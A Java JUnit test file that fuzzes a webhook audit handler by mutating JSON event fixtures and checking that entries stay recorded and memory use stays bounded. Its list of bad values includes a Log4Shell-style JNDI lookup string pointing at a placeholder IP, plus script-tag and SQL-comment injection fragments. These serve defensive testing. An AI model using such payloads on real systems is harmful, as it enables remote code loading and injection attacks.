package io.hogaudit.webhook;

import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

import com.sun.management.ThreadMXBean;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.junit.jupiter.api.parallel.Resources;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import io.hogaudit.audit.AuditEntry;
import io.hogaudit.signature.Verified;

import static org.assertj.core.api.Assertions.assertThat;

/** Each fixture with members made wrong, in an order fixed by a seed. */
@ExtendWith(OutputCaptureExtension.class)
@ResourceLock(Resources.SYSTEM_OUT)
class BadInputTests {

	private static final long SEED = 4;

	private static final int MUTATIONS = 60;

	/** Work is counted in bytes that are allocated, which no machine changes. */
	private static final ThreadMXBean WORK = (ThreadMXBean) ManagementFactory.getThreadMXBean();

	private static final List<String> WRONG = List.of("null", "7", "-1e400", "1e999999999", "true", "\"\"", "[]", "{}",
			"[[{\"a\":[null]}]]", "\"None\"", "\"\\u0000\\ud800<script>'; --\"",
			"\"$" + "{jndi:ldap://192.0.2.66/x}\\r\\n\\u2028\\u202e\"", "\"" + "x".repeat(20_000) + "\"",
			"\"" + "\\u00e4_".repeat(5_000) + "\"", "[".repeat(200) + "]".repeat(200),
			"{\"a\":".repeat(200) + "1" + "}".repeat(200));

	private static final String MARK = "here, and nowhere else";

	private final Entries entries = new Entries(new Severities(Map.of()));

	static List<EventFixture> fixtures() {
		return EventFixture.all();
	}

	@ParameterizedTest
	@MethodSource("fixtures")
	void recordsWhateverMembersBecome(EventFixture fixture, CapturedOutput output) {
		Random random = new Random(SEED + fixture.name().hashCode());
		for (int i = 0; i < MUTATIONS; i++) {
			String text = mutated(fixture.json().deepCopy(), random);
			String what = "seed %d, mutation %d: %s".formatted(SEED, i,
					text.substring(0, Math.min(2000, text.length())));
			AuditEntry entry = entry(text, what);
			if (text.contains(MARK)) {
				assertThat(entry.metadata().toString()).as(what).contains(MARK);
			}
		}
		assertThat(output).doesNotContain("a handler failed", "severity was not judged");
	}

	@ParameterizedTest
	@MethodSource("fixtures")
	void recordsEachMemberMissing(EventFixture fixture, CapturedOutput output) {
		int members = objects(fixture.json()).stream().mapToInt(JsonNode::size).sum();
		for (int i = 0; i < members; i++) {
			JsonNode body = fixture.json().deepCopy();
			int at = i;
			for (ObjectNode object : objects(body)) {
				if (at < object.size()) {
					object.remove(new ArrayList<>(object.propertyNames()).get(at));
					break;
				}
				at -= object.size();
			}
			entry(body.toString(), "member " + i + " missing");
		}
		assertThat(output).doesNotContain("a handler failed", "severity was not judged");
	}

	@Test
	void keepsWhatIsNoJsonAsItCame() {
		EventFixture fixture = fixtures().getFirst();
		String text = new String(fixture.body(), StandardCharsets.UTF_8);
		for (String broken : List.of(text.substring(0, text.length() - 1), text + "}", "<html>", "\u0000",
				"[1e99999999999]", "[1e-2147483648]", "[" + "9".repeat(1001) + "]")) {
			assertThat(entry(broken, "broken").metadata().path("body").asString("")).isEqualTo(broken);
		}
	}

	private AuditEntry entry(String text, String what) {
		byte[] body = text.getBytes(StandardCharsets.UTF_8);
		long before = WORK.getCurrentThreadAllocatedBytes();
		AuditEntry entry = this.entries.entry(this.entries
			.delivery(new Verified("posthog", "msg", body, "0a1b2c3d", "192.0.2.1", Instant.EPOCH), null));
		long work = WORK.getCurrentThreadAllocatedBytes() - before;
		assertThat(entry.action()).as(what).isNotBlank().hasSizeLessThan(500);
		assertThat(work).as(what).isLessThan(1_000_000 + 50L * body.length);
		return entry;
	}

	/** One to three members wrong or gone, and a marked one somewhere. */
	private static String mutated(JsonNode body, Random random) {
		mark(body, random);
		String[] wrong = new String[1 + random.nextInt(3)];
		for (int i = 0; i < wrong.length; i++) {
			List<ObjectNode> objects = objects(body);
			if (objects.isEmpty()) {
				continue;
			}
			ObjectNode object = objects.get(random.nextInt(objects.size()));
			List<String> names = new ArrayList<>(object.propertyNames());
			if (names.isEmpty()) {
				continue;
			}
			String name = names.get(random.nextInt(names.size()));
			int choice = random.nextInt(WRONG.size() + 1);
			if (choice == WRONG.size()) {
				object.remove(name);
			}
			else {
				object.put(name, "@@wrong" + i + "@@");
				wrong[i] = WRONG.get(choice);
			}
		}
		String text = body.toString();
		for (int i = 0; i < wrong.length; i++) {
			text = (wrong[i] != null) ? text.replace("\"@@wrong" + i + "@@\"", wrong[i]) : text;
		}
		return text;
	}

	/** Not in the second copy of an activity's user, of which one is kept. */
	private static void mark(JsonNode body, Random random) {
		List<ObjectNode> objects = new ArrayList<>(objects(body));
		if (body.at("/event/properties/user").isObject()) {
			objects.removeAll(objects(body.path("person")));
		}
		if (!objects.isEmpty()) {
			objects.get(random.nextInt(objects.size())).put("mark " + random.nextInt(3), MARK);
		}
	}

	private static List<ObjectNode> objects(JsonNode node) {
		List<ObjectNode> objects = new ArrayList<>();
		if (node instanceof ObjectNode object) {
			objects.add(object);
		}
		for (JsonNode child : node) {
			objects.addAll(objects(child));
		}
		return objects;
	}

}
